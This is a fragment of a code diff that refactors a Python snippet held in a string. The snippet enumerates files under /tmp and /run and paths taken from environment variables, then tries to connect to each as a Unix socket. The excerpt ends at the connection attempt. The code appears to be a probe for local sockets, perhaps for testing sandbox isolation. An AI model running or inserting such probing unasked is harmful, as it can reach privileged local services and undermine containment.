@@ -125,7 +125,8 @@ _SEED = """
 """
 _ENDING = r"""
     import glob, os, socket
-    for path in [*glob.glob("/tmp/**", recursive=True), *glob.glob("/run/**", recursive=True), *(value[6:] for value in os.environ.values())]:
+    sockets = [path for folder in ("/tmp", "/run") for path in glob.glob(f"{folder}/**", recursive=True)]
+    for path in [*sockets, *(value[6:] for value in os.environ.values())]:
         try:
             connection = socket.socket(socket.AF_UNIX)
             connection.connect(path)
